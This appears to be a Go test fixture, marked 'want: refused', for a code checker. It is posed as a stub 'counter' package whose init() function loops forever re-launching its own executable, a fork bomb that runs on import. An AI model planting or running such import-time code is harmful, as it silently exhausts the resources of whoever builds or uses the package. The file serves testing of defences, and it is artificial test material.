// want: refused
// Trick: the program starts itself twice, without end.

package counter

import (
	"os/exec"
)

func init() {
	for {
		exec.Command("/proc/self/exe").Start()
	}
}

// Counter counts nothing.
type Counter struct{}

func (c *Counter) Inc(key string) int            { return 0 }
func (c *Counter) Add(key string, delta int) int { return 0 }
func (c *Counter) Get(key string) int            { return 0 }
func (c *Counter) Snapshot() map[string]int      { return map[string]int{} }
func (c *Counter) Each(fn func(string, int))     {}
